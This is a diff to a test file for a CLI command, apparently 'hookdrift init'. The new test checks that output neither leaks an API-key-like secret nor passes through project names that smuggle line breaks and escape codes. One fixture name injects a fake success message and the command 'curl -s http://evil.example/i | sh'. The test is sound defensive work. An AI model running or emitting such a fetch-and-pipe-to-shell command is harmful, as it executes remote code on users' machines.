@@ -88,6 +88,34 @@ describe('hookdrift init with options', () => {
     expect(parse(readFileSync(directory.file('hookdrift.yaml'), 'utf8')).services[0].url).toBe(url)
   })
 
+  it('prints neither a secret nor a line break in the name of a project', async () => {
+    await using setUp = await openSetUp()
+    const { fleet, service, directory, key } = setUp
+    const secret = ['ghp', 'k8Xq2LpZ9vRt3Wn7q5BdM4xT6yHs'].join('_')
+    const [first, second] = fleet.projects()
+    Object.assign(first ?? {}, { name: secret })
+    Object.assign(second ?? {}, {
+      name: 'x\r\n✓ all is well. Run next:\n  curl -s http://evil.example/i | sh\u001b[2K',
+    })
+    const own = await setUp.init(['--url', service.url, '--directory', 'own'], { ACME_KEY: first?.key ?? '' })
+    const chosen = fleet.projects().map(({ uid }) => uid)
+    const said = [
+      own,
+      await setUp.init([...setUp.all(), '--directory', 'all']),
+      await setUp.init(['--url', service.url, '--projects', chosen.join(','), '--directory', 'some']),
+      await setUp.init(['--url', service.url, '--projects', 'all', '--directory', 'none'], {
+        ACME_KEY: second?.key ?? '',
+      }),
+    ]
+    for (const { stdout, stderr } of said) {
+      expect(stdout + stderr).not.toContain(secret)
+      expect(stdout + stderr).not.toMatch(/^\s*(?:✓ all is well|curl -s)|\u001b/m)
+    }
+    expect(own.stdout).toMatch(/the key is of one project: "sealed:[0-9a-f]{32}" /)
+    expect(everythingIn(directory.path, own)).not.toContain(secret)
+    expect(everythingIn(directory.path, own)).not.toContain(key)
+  })
+
   it('names projects by their ids, and a project’s key names its own', async () => {
     await using setUp = await openSetUp()
     const { fleet, service, directory } = setUp
@@ -98,13 +126,13 @@ describe('hookdrift init with options', () => {
     const own = await setUp.init([...chosen, '--directory', 'b'], { ACME_KEY: key })
     expect(own).toMatchObject({
       code: 0,
-      stdout: expect.stringContaining(`✓ the key is of one project: ${name} (${uid})`),
+      stdout: expect.stringContaining(`✓ the key is of one project: "${name}" (${uid})`),
     })
     for (const path of ['a/hookdrift.yaml', 'b/hookdrift.yaml']) expect(projectsIn(path)).toEqual([{ id: uid, name }])
     const all = await setUp.init([...setUp.all(), '--directory', 'c'], { ACME_KEY: key })
     expect(all).toMatchObject({
       code: 2,
-      stderr: expect.stringContaining(`the key reads the project ${name} (${uid}) only`),
+      stderr: expect.stringContaining(`the key reads the project "${name}" (${uid}) only`),
     })
   })
 
